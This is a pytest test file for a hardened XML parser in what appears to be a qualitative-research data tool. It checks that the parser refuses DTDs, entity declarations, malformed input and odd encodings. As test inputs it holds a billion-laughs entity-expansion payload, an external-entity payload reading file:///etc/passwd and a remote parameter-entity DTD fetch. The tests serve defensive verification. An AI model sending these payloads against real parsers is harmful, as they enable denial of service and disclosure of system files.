"""Untrusted XML: every attack and every defect is one FokusError naming the file."""

from __future__ import annotations

import time
import xml.etree.ElementTree as ET
from collections import Counter

import pytest

from fokus.errors import FokusError
from fokus.exchange import xmlsafe
from fokus.exchange.xmlsafe import child, children, iterparse_xml, line_of, local, parse_xml, text_of

DISPLAY = "prosjekt.qdpx!project.qde"

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<Project name="&lol9;"/>
"""


def refusal(data: bytes, **kwargs: int) -> str:
    with pytest.raises(FokusError) as info:
        parse_xml(data, DISPLAY, **kwargs)
    assert info.value.path == DISPLAY
    message = str(info.value)
    assert DISPLAY in message
    assert "\n" not in message
    return message


def test_billion_laughs_is_refused_before_expanding() -> None:
    started = time.perf_counter()
    message = refusal(BILLION_LAUGHS)
    assert time.perf_counter() - started < 2
    assert "refused: the XML declares entities (a billion-laughs or external-entity attack" in message
    assert "line 3" in message  # the first declaration, not the place it would be expanded


def test_external_entity_is_refused() -> None:
    data = b'<?xml version="1.0"?>\n<!DOCTYPE p [<!ENTITY x SYSTEM "file:///etc/passwd">]>\n<p>&x;</p>'
    message = refusal(data)
    assert "declares entities" in message


def test_parameter_entity_is_refused() -> None:
    data = b'<!DOCTYPE p [<!ENTITY % x SYSTEM "http://example.invalid/evil.dtd"> %x;]><p/>'
    assert "declares entities" in refusal(data)


def test_dtd_without_entities_is_refused() -> None:
    assert "refused: the XML has a DTD" in refusal(b"<!DOCTYPE Project>\n<Project/>")


def test_external_dtd_is_refused() -> None:
    assert "refused: the XML has a DTD" in refusal(b'<!DOCTYPE p SYSTEM "http://example.invalid/p.dtd"><p/>')


def test_malformed_xml_names_line_and_column() -> None:
    message = refusal(b'<?xml version="1.0"?>\n<Project>\n  <Sources>\n</Project>\n')
    assert "not well-formed XML: mismatched tag" in message
    assert f"{DISPLAY}:line 4, column 3:" in message


@pytest.mark.parametrize("data", [b"", b"   ", b"<a/><b/>", b"<a>&nbsp;</a>", b"<a>\x00</a>"])
def test_other_defects_are_not_well_formed(data: bytes) -> None:
    assert "not well-formed XML" in refusal(data)


def test_too_large_is_refused_before_parsing() -> None:
    message = refusal(b"<a>" + b"x" * 2000 + b"</a>", max_bytes=1000)
    assert "larger than 1000 bytes" in message


@pytest.mark.parametrize(
    "data",
    [
        '<?xml version="1.0" encoding="ISO-8859-1"?><a>blåbær</a>'.encode("latin-1"),
        "<a>ok</a>".encode("utf-32"),
    ],
)
def test_other_encodings_are_refused(data: bytes) -> None:
    assert "not UTF-8/UTF-16 text" in refusal(data)


def test_byte_order_marks_are_accepted() -> None:
    for data in (
        b"\xef\xbb\xbf" + '<?xml version="1.0" encoding="UTF-8"?><a>blåbær</a>'.encode(),
        '<?xml version="1.0" encoding="UTF-16"?><a>blåbær</a>'.encode("utf-16"),
        "<a>blåbær</a>".encode("utf-16-le"),
    ):
        assert parse_xml(data, DISPLAY).text == "blåbær"


def test_encoding_declaration_cannot_switch_the_decoding() -> None:
    data = '<?xml version="1.0" encoding="ISO-8859-1"?><a>blåbær</a>'.encode()
    assert parse_xml(data, DISPLAY).text == "blåbær"


def test_helpers_ignore_namespaces_and_elements_know_their_line() -> None:
    root = parse_xml(
        b'<p:Project xmlns:p="urn:QDA-XML:project:1.0">\n'
        b"  <p:Description>  Om prosjektet </p:Description>\n"
        b"  <Code/><x:Code xmlns:x='urn:other'/><Empty> </Empty>\n"
        b"</p:Project>",
        DISPLAY,
    )
    assert local(root.tag) == "Project"
    assert local("Code") == "Code"
    assert text_of(root, "Description") == "Om prosjektet"
    assert text_of(root, "Empty") is None
    assert text_of(root, "Missing") is None
    assert [local(c.tag) for c in children(root, "Code")] == ["Code", "Code"]
    found = child(root, "Code")
    assert found is not None
    assert line_of(found) == 3
    assert line_of(root) == 1
    assert child(root, "Sources") is None


def big_document(sources: int) -> str:
    """A project larger than the parser's chunk, each text source on a line of its own: letters of two and four
    bytes everywhere, so that chunks end inside characters, tags and attributes."""
    selections = "".join(
        f'<PlainTextSelection guid="s{n}" startPosition="{n}" endPosition="{n + 3}"><Description>blåbær 😀 {n}'
        f'</Description><Coding guid="c{n}"><CodeRef targetGUID="k{n % 7}"/></Coding></PlainTextSelection>'
        for n in range(40)
    )
    lines = ['<Project xmlns="urn:QDA-XML:project:1.0" name="stor"><Users><User guid="u" name="Åse"/></Users>']
    lines.append("<Sources>")
    lines += [f'<TextSource guid="t{n}" name="kilde {n} ✓">{selections}<Link/></TextSource>' for n in range(sources)]
    lines.append("</Sources><Notes><Note guid='n'>notat</Note></Notes></Project>")
    return "\n".join(lines)


def test_a_file_read_as_it_is_parsed_is_the_tree_expat_builds_one_item_at_a_time() -> None:
    text = big_document(300)
    data = text.encode()
    assert len(data) > 2 * xmlsafe.CHUNK
    expected = ET.fromstring(data)
    tags: Counter[str] = Counter()
    stream = iterparse_xml(data, DISPLAY, items={"TextSource", "Note"}, tags=tags)
    first, root = next(stream)
    assert first is None
    assert local(root.tag) == "Project"
    handed = list(stream)
    assert [local(element.tag) for _, element in handed] == ["TextSource"] * 300 + ["Note"]
    sources = expected.find("{urn:QDA-XML:project:1.0}Sources")
    assert sources is not None
    for n, (parent, element) in enumerate(handed[:-1]):
        assert local(parent.tag) == "Sources"
        assert ET.tostring(element) == ET.tostring(sources[n])
        assert line_of(element) == n + 3
        assert line_of(element[0]) == n + 3
    assert [local(section.tag) for section in root] == ["Users", "Sources", "Notes"]
    assert [len(section) for section in root] == [1, 0, 0]  # what was handed out is no longer in the tree
    assert tags == Counter(element.tag for element in expected.iter())
    assert text_of(handed[-1][0], "Note") is None
    assert handed[-1][1].text == "notat"


def test_an_error_after_the_first_chunk_names_its_line_and_bad_text_still_comes_first() -> None:
    text = big_document(100)
    broken = text.replace('<TextSource guid="t90"', '<TextSource guid="t90" guid="t90"')
    message = refusal(broken.encode())
    assert "not well-formed XML: duplicate attribute" in message
    assert f"{DISPLAY}:line 93, column" in message
    late = text.encode().replace(b"kilde 99", b"kilde \xff")  # not UTF-8, near the end
    assert "not UTF-8/UTF-16 text" in refusal(broken.encode()[:100] + late[100:])
    assert "not UTF-8/UTF-16 text" in refusal(b"<Project>\n<oops" + late[9:])
